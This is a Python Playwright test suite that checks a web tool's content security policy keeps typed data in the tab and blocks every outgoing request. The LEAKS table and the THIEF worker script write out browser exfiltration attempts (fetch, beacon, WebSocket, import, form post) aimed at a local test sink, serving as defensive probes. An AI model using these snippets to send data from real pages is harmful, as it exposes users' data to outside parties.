"""What is typed stays in the tab. Not promised: tried."""

import shutil
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import TOOL
from tests.browser.forms import FORMS
from tools.build import headers
from tools.build.server import make_server

MARK = "1987-06-05"  # a day that stands nowhere on the site


@pytest.fixture
def serve() -> Iterator[Callable[[Path], str]]:
    """Serves a folder; its address."""
    servers = []

    def start(folder: Path) -> str:
        server = make_server(folder, 0)
        servers.append(server)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        return f"http://127.0.0.1:{server.server_port}/"

    yield start
    for server in servers:
        server.shutdown()


@pytest.mark.core
def test_no_request_and_no_trace_after_load(tool: Page, base_url: str) -> None:
    requests: list[str] = []
    spoken: list[str] = []
    tool.on("request", lambda request: requests.append(request.url))
    tool.on("console", lambda message: spoken.append(message.text))
    tool.get_by_label("Från och med").fill(MARK)
    tool.get_by_label("Till och med").fill("+400d")
    expect(tool.locator("[data-code=before-first-rule]")).to_be_visible()
    tool.get_by_label("Till och med").fill("nonsens")
    tool.get_by_label("Till och med").press("Enter")
    expect(tool.locator(".faults:visible")).to_be_visible()
    tool.wait_for_timeout(300)
    foreign = [url for url in requests if not url.startswith("blob:")]
    assert foreign == []
    assert spoken == []
    assert tool.url == base_url + TOOL
    stored = tool.evaluate(
        """async () => JSON.stringify([
            {...localStorage}, {...sessionStorage}, document.cookie, history.state, document.title,
            (await indexedDB.databases()).map(database => database.name), await caches.keys(),
        ])"""
    )
    assert "1987" not in stored
    assert "nonsens" not in stored


@pytest.mark.core
def test_nothing_foreign_is_ever_loaded(page: Page, base_url: str, site: Path) -> None:
    """Every page of the site, from start to rest: only its own origin, no word in the console."""
    asked: list[str] = []
    spoken: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: spoken.append(f"{message.type}: {message.text}"))
    page.on("pageerror", lambda error: spoken.append(str(error)))
    tools = [TOOL, *(f"formular/{form}/" for form in FORMS)]
    for file in sorted(site.rglob("*.html")):
        path = file.relative_to(site).as_posix().removesuffix("index.html")
        if path != "404.html":
            page.goto(base_url + path)
            page.wait_for_load_state("networkidle" if path in tools else "load")
    assert spoken == []
    page.goto(base_url + "404.html")
    page.wait_for_load_state("load")
    # a server that keeps this page for what is missing says so, and the console repeats it
    assert [line for line in spoken if not line.endswith("404 (Not Found)")] == []
    assert len(spoken) <= 1
    assert asked
    assert {url for url in asked if not url.startswith((base_url, "blob:"))} == set()


LEAKS = {
    "fetch": "fetch(SINK + 'fetch', {mode: 'no-cors'})",
    "xhr": "new Promise(r => { const x = new XMLHttpRequest(); x.onloadend = r; x.open('GET', SINK + 'xhr'); x.send(); })",
    "beacon": "navigator.sendBeacon(SINK + 'beacon', 'x')",
    "image": "new Promise(r => { const i = new Image(); i.onload = i.onerror = r; i.src = SINK + 'image'; })",
    "websocket": "new Promise(r => { const w = new WebSocket(SINK.replace('http', 'ws') + 'ws'); w.onclose = w.onerror = r; })",
    "event source": "new Promise(r => { const e = new EventSource(SINK + 'es'); e.onerror = () => { e.close(); r(); }; })",
    "import": "import(SINK + 'module.mjs')",
    "style": "new Promise(r => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = l.onerror = r; l.href = SINK + 'style'; document.head.append(l); })",
    "form": "new Promise(r => { const f = document.createElement('form'); f.action = SINK + 'form'; f.method = 'post'; document.body.append(f); f.submit(); setTimeout(r, 200); })",
}


@pytest.mark.core
@pytest.mark.parametrize("way", LEAKS)
def test_the_page_cannot_send_to_another_origin(
    page: Page, base_url: str, sink: tuple[str, list[str]], way: str
) -> None:
    address, heard = sink
    page.goto(base_url + TOOL)
    page.evaluate(
        f"async (SINK) => {{ try {{ await ({LEAKS[way]}); }} catch {{}} }}",
        address,
    )
    page.wait_for_timeout(150)
    assert heard == []


# What a worker tries; its own word of how it went comes back as a message.
THIEF = """
const tries = {
  fetch: () => fetch(SINK + 'fetch', {mode: 'no-cors'}),
  import: () => import(SINK + 'module.mjs'),
  socket: () => new Promise((r, no) => { const w = new WebSocket(SINK.replace('http', 'ws')); w.onopen = r; w.onerror = no; }),
  code: () => new Function('return 1')(),
};
const told = {};
for (const [name, attempt] of Object.entries(tries)) {
  try { await attempt(); told[name] = 'done'; } catch (error) { told[name] = 'refused'; }
}
postMessage(told);
"""


@pytest.mark.parametrize("layer", ["header and meta", "meta alone"])
def test_a_worker_started_as_ours_is_bound_by_the_policy(
    new_context: Any,
    base_url: str,
    site: Path,
    tmp_path: Path,
    serve: Callable[[Path], str],
    sink: tuple[str, list[str]],
    layer: str,
) -> None:
    address, heard = sink
    page = new_context().new_page()
    if layer == "meta alone":  # a server that sends no headers of ours
        base_url = serve(copy_without_headers(site, tmp_path))
    page.goto(base_url + TOOL)
    told = page.evaluate(
        """([code, sink]) => new Promise((resolve) => {
            const source = new Blob([`const SINK = ${JSON.stringify(sink)};` + code], {type: "text/javascript"});
            const worker = new Worker(URL.createObjectURL(source), {type: "module"});
            worker.onmessage = ({data}) => resolve(data);
        })""",
        [THIEF, address],
    )
    assert set(told.values()) == {"refused"}, told
    assert heard == []


def copy_without_headers(site: Path, folder: Path) -> Path:
    copy = folder / "site"
    shutil.copytree(site, copy, ignore=shutil.ignore_patterns("runtime"))
    (copy / "_headers").unlink()
    return copy


def test_the_sink_would_hear(
    page: Page, tmp_path: Path, serve: Callable[[Path], str], sink: tuple[str, list[str]]
) -> None:
    """The tests above can fail: from a page without a policy the same attempts get through."""
    address, heard = sink
    (tmp_path / "index.html").write_text("<!doctype html><title>plain</title>", "utf-8")
    page.goto(serve(tmp_path))
    for way in LEAKS:
        if way != "form":  # would leave the page
            page.evaluate(
                f"async (SINK) => {{ try {{ await ({LEAKS[way]}); }} catch {{}} }}", address
            )
    page.wait_for_timeout(150)
    ways = {"/fetch", "/xhr", "/beacon", "/image", "/ws", "/es", "/module.mjs", "/style"}
    assert ways <= set(heard)


WAYS_OUT = [
    *("fetch", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "importScripts"),
    *("Worker", "SharedWorker", "BroadcastChannel", "RTCPeerConnection"),
    *("indexedDB", "caches", "cookieStore"),
]


@pytest.mark.cdp
@pytest.mark.core
def test_python_finds_no_way_to_the_network(tool: Page) -> None:
    """What Python sees as ``js`` is the worker's global scope."""
    (worker,) = [each for each in tool.workers if each.url.startswith("blob:")]  # not the search's
    left = worker.evaluate("ways => ways.filter(way => self[way] !== undefined)", WAYS_OUT)
    assert left == []
    there = tool.evaluate("ways => ways.filter(way => self[way] !== undefined)", WAYS_OUT)
    assert {"fetch", "WebSocket", "caches"} <= set(there)  # the list names what a browser has


def test_leaving_the_page_forgets(tool: Page, base_url: str) -> None:
    tool.get_by_label("Från och med").fill("260302")
    expect(tool.locator(".tool-result")).to_be_visible()
    tool.goto(base_url)
    tool.go_back()
    expect(tool.get_by_label("Från och med")).to_have_value("")
    expect(tool.locator("#milestone-tool")).to_have_attribute("data-state", "ready", timeout=60_000)
    tool.get_by_label("Från och med").fill("260401")
    expect(tool.locator("tr[data-id=chain_step_2] time")).to_have_attribute(
        "datetime", "2026-06-30"
    )


def test_the_policy_has_no_hole() -> None:
    policy = headers.content_policy(["'sha256-x'"])
    assert "unsafe-inline" not in policy
    assert "'unsafe-eval'" not in policy
    assert "default-src 'none'" in policy
    assert "*" not in policy
